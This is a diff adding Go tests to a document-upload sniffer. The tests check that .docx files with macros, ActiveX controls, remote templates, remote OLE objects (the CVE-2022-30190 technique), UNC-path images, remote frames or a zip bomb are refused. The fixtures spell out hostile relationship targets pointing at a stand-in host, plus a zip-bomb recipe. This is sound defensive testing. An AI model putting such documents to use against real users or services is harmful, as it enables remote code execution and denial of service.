@@ -10,6 +10,7 @@ import (
 	"image/color"
 	"image/jpeg"
 	"image/png"
+	"strings"
 	"testing"
 
 	"loa/functions/upload"
@@ -183,4 +184,96 @@ func TestSniffByContent(t *testing.T) {
 
 func replaced(s, old, new string) string {
 	return string(bytes.Replace([]byte(s), []byte(old), []byte(new), 1))
+}
+
+// zipOf makes a zip of the given parts, name then content, each deflated.
+func zipOf(t *testing.T, parts ...string) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	zw := zip.NewWriter(&b)
+	for i := 0; i+1 < len(parts); i += 2 {
+		w, err := zw.Create(parts[i])
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(parts[i+1]))
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func rels(rs ...string) string {
+	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
+		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+		strings.Join(rs, "") + `</Relationships>`
+}
+
+const relNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+// A .docx the office will open in Word must not make Word run code or
+// reach out when it is opened: macros under any name, ActiveX controls, a
+// template, frame, picture or OLE object fetched from elsewhere (what
+// CVE-2022-30190 used) are refused; a link the reader may click is kept,
+// as is a document whose parts are what Word writes.
+func TestDocxThatActsWhenOpenedIsRefused(t *testing.T) {
+	body := "<w:document/>"
+	plain := []string{"[Content_Types].xml", wordTypes, "word/document.xml", body}
+	with := func(parts ...string) []byte { return zipOf(t, append(append([]string{}, plain...), parts...)...) }
+	for _, tc := range []struct {
+		name string
+		data []byte
+		err  error
+	}{
+		{"plain", with(), nil},
+		{"link to click", with("word/_rels/document.xml.rels",
+			rels(`<Relationship Id="rId1" Type="`+relNS+`hyperlink" Target="https://thanhdoan.gov.vn/" TargetMode="External"/>`,
+				`<Relationship Id="rId2" Type="`+relNS+`styles" Target="styles.xml"/>`)), nil},
+		{"macros under a .docx content type", with("word/vbaProject.bin", "macro"), upload.ErrType},
+		{"macros named in another case", with("Word/VBAProject.bin", "macro"), upload.ErrType},
+		{"macro content type in lower case", zipOf(t, "[Content_Types].xml",
+			replaced(wordTypes, "document.main+xml", "document.macroenabled.main+xml"), "word/document.xml", body), upload.ErrType},
+		{"ActiveX control", with("word/activeX/activeX1.xml", "<ax:ocx/>"), upload.ErrType},
+		{"template fetched from elsewhere", with("word/_rels/settings.xml.rels",
+			rels(`<Relationship Id="rId1" Type="`+relNS+`attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/>`)), upload.ErrType},
+		{"OLE object fetched from elsewhere", with("word/_rels/document.xml.rels",
+			rels(`<Relationship Id="rId9" Type="`+relNS+`oleObject" Target="mhtml:http://203.0.113.7/x.html!x-usc:http://203.0.113.7/x.html" TargetMode="External"/>`)), upload.ErrType},
+		{"picture fetched from elsewhere, mode in another case", with("word/_rels/document.xml.rels",
+			rels(`<Relationship Id="rId3" Type="`+relNS+`image" Target="\\203.0.113.7\share\a.png" TargetMode="external"/>`)), upload.ErrType},
+		{"frame fetched from elsewhere", with("word/_rels/webSettings.xml.rels",
+			rels(`<Relationship Id="rId1" Type="`+relNS+`frame" Target="http://203.0.113.7/" TargetMode="External"/>`)), upload.ErrType},
+		{"relationships that are not XML", with("word/_rels/document.xml.rels", "<Relationships><Relationship"), upload.ErrDamaged},
+	} {
+		_, err := upload.Sniff(tc.data)
+		if !errors.Is(err, tc.err) {
+			t.Errorf("%s: Sniff: %v, want %v", tc.name, err, tc.err)
+		}
+	}
+}
+
+// A .docx whose parts unpack to far more than any Word document (a zip
+// bomb: 8 KB of zip that is 80 MB of zeros) is refused, not handed to the
+// office's Word to unpack.
+func TestDocxZipBombIsRefused(t *testing.T) {
+	var b bytes.Buffer
+	zw := zip.NewWriter(&b)
+	for _, p := range [][2]string{{"[Content_Types].xml", wordTypes}, {"word/document.xml", "<w:document/>"}} {
+		w, _ := zw.Create(p[0])
+		w.Write([]byte(p[1]))
+	}
+	w, _ := zw.Create("word/media/image1.png")
+	zeros := make([]byte, 1<<20)
+	for range 80 {
+		w.Write(zeros)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if b.Len() > upload.MaxDocxUnpacked/100 {
+		t.Fatalf("the bomb is %d bytes, not small", b.Len())
+	}
+	if _, err := upload.Sniff(b.Bytes()); !errors.Is(err, upload.ErrDamaged) {
+		t.Errorf("Sniff of %d bytes unpacking to 80 MB: %v, want %v", b.Len(), err, upload.ErrDamaged)
+	}
 }
